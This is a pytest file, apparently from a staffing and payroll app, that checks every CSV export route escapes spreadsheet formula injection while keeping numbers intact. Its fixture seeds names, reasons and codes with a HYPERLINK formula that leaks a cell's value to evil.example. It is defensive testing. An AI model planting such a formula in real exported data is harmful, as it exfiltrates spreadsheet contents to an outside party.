"""Every CSV the product serves goes through the one writer (bankapp/csvout.py): a cell a spreadsheet would
run as a formula (= + - @ tab CR at its start) is kept as text; plain numbers stay numbers."""
import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
import time_machine

from bankapp.audit.models import Breach
from bankapp.auth.models import User
from bankapp.cascade.models import AgencyOffer
from bankapp.csvout import read_cell, safe_cell, write_csv
from bankapp.extensions import db
from bankapp.org.models import Department, Grade, Site
from bankapp.payroll.services import create_export
from bankapp.rates.models import RateCard
from bankapp.timesheets.models import Timesheet
from tests.factories import PASSWORD
from tests.timesheets.helpers import approve, submit, worked

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DECIDED = datetime(2026, 11, 2, 12, 0, tzinfo=UTC)


@pytest.mark.parametrize("value,cell", [
    (FORMULA, "'" + FORMULA), ("+447700900123", "'+447700900123"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTab", "'\tTab"), ("\rReturn", "'\rReturn"), ("-12.50", "-12.50"), ("-3", "-3"), ("12.50", "12.50"),
    ("Dr A = B", "Dr A = B"), (None, ""), (Decimal("-0.01"), "-0.01"), ("", ""),
])
def test_a_cell_that_would_run_is_kept_as_text_and_numbers_stay_numbers(value, cell):
    assert safe_cell(value) == cell


def test_read_cell_undoes_the_guard():
    for text in (FORMULA, "-cmd", "@x", "plain", "-12.50"):
        assert read_cell(safe_cell(text)) == text


def test_write_csv_keeps_columns_in_order_with_crlf():
    assert write_csv(("a", "b"), [{"b": "@x", "a": 1}]) == "a,b\r\n1,'@x\r\n"


# ---- every CSV route --------------------------------------------------------------------------

@pytest.fixture
def poisoned(trust):
    """Data behind every CSV, with a formula in every text a person types: names, reasons, codes."""
    bank = approve(submit(worked(trust, "2026-10-13T08:00", "2026-10-13T17:00")), trust.approver_a)
    late_booking = worked(trust, "2026-10-16T08:00", "2026-10-16T17:00")
    with time_machine.travel(datetime(2026, 10, 17, 9, 0, tzinfo=UTC), tick=False):
        late = submit(late_booking)
    with time_machine.travel(datetime(2026, 10, 20, 9, 0, tzinfo=UTC), tick=False):  # after the 19 Oct cut-off
        approve(late, trust.approver_a)
    agency_booking = worked(trust, "2026-11-03T08:00", "2026-11-03T18:00", source="agency",
                            charge_rate=Decimal("110.00"))
    offer = AgencyOffer(shift_id=agency_booking.shift_id, agency_id=trust.agency1.id,
                        offered_by_id=trust.agency_user1.id, locum_name=FORMULA, gmc_number="7999999",
                        grade_id=trust.grades["ST3"].id, charge_rate=Decimal("110.00"), cap=Decimal("80.00"),
                        over_cap_amount=Decimal("30.00"), status="accepted", booking_id=agency_booking.id,
                        approval_reason=FORMULA, approved_by_id=trust.executive.id, decided_at=DECIDED)
    db.session.add(offer)
    db.session.flush()
    agency_booking.agency_offer_id = offer.id
    db.session.add(Breach(type="agency_over_cap", at=DECIDED, site_id=trust.site_a.id, shift_id=agency_booking.shift_id,
                          amount_over=Decimal("300.00"), approved_by_id=trust.executive.id, reason=FORMULA))
    for model, column in ((User, "name"), (Site, "name"), (Department, "name")):
        db.session.execute(db.update(model).values({column: FORMULA}))
    db.session.execute(db.update(Department).values(cost_centre="@SUM(A1:A9)"))  # 32 characters at most
    db.session.execute(db.update(Grade).where(Grade.code == "FY1").values(code="-FY1"))
    db.session.commit()
    approve(submit(agency_booking, trust.coordinator_a), trust.approver_a)
    batch = create_export(actor=trust.payroll)
    db.session.commit()
    db.session.expire_all()
    assert {db.session.get(Timesheet, ts.id).exported_batch_id for ts in (bank, late)} == {batch.id}
    return {"batch": batch.id, "card": db.session.execute(db.select(db.func.max(RateCard.id))).scalar()}


def _csv_routes(ids):
    """(who, url) for every CSV the product serves."""
    batch, card, week = ids["batch"], ids["card"], "2026-W45"
    period = "from=2026-10-01&to=2026-11-30&format=csv"
    return [
        ("payroll", f"/api/v1/payroll-exports/{batch}/file"),
        ("payroll", f"/api/v1/payroll-exports/{batch}/agency-file"),
        ("payroll", f"/api/v1/payroll-exports/{batch}/late-file"),
        ("payroll", f"/payroll/exports/{batch}/esr.csv"),
        ("payroll", f"/payroll/exports/{batch}/agency.csv"),
        ("payroll", f"/payroll/exports/{batch}/late.csv"),
        ("executive", f"/api/v1/reports/breaches?{period}"),
        ("executive", f"/api/v1/reports/fill-rates?{period}&group_by=site"),
        ("executive", f"/reports/breaches?{period}"),
        ("executive", f"/reports/fill-rates?{period}&group_by=department"),
        ("executive", f"/api/v1/reports/spend?{period}&group_by=department"),
        ("executive", f"/reports/spend?{period}&group_by=site"),
        ("executive", "/api/v1/reports/forecast?days=14&format=csv"),
        ("executive", "/reports/forecast?days=14&format=csv"),
        ("executive", f"/api/v1/reports/agency-return?week={week}"),
        ("executive", f"/agency-return.csv?week={week}"),
        ("admin", f"/rates/{card}.csv"),
        ("coordinator_a", "/coordinator/shifts/upload/template.csv"),
        ("executive", f"/api/v1/reports/bank-utilisation?{period}"),
        ("executive", f"/reports/bank-utilisation?{period}"),
    ]


def _get(app, world, who, url, api):
    user = getattr(world, who)
    if url.startswith("/api/"):
        return api(user).get(url)
    client = app.test_client()
    assert client.post("/login", data={"email": user.email, "password": PASSWORD}).status_code == 302
    return client.get(url)


def test_every_csv_route_keeps_formulas_as_text(app, trust, api, poisoned):
    for who, url in _csv_routes(poisoned):
        resp = _get(app, trust, who, url, api)
        assert resp.status_code == 200, (url, resp.status_code, resp.get_data(as_text=True)[:300])
        assert resp.mimetype == "text/csv", url
        cells = [cell for row in csv.reader(io.StringIO(resp.get_data(as_text=True))) for cell in row]
        running = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _number(c)]
        assert running == [], url
        assert any(c.startswith("'=HYPERLINK") or c == "'-FY1" for c in cells), f"{url}: no poisoned cell to check"


def _number(text):
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def test_the_list_covers_every_csv_route_of_the_app(app):
    """A new CSV route must join ``_csv_routes``: every rule ending in .csv or documented as text/csv."""
    with app.test_request_context():
        from bankapp.extensions import api

        paths = api.spec.to_dict()["paths"]
    documented = {path.split("{")[0] for path, ops in paths.items()
                  for op in ops.values() if isinstance(op, dict)
                  and "text/csv" in str(op.get("responses", {}).get("200", {}))}
    pages = {rule.rule.split("<")[0] for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
    tested = {url.split("?")[0] for _, url in _csv_routes({"batch": 1, "card": 1})}
    for prefix in documented | pages:
        assert any(url.startswith(prefix) for url in tested), f"{prefix} serves CSV but is not tested here"
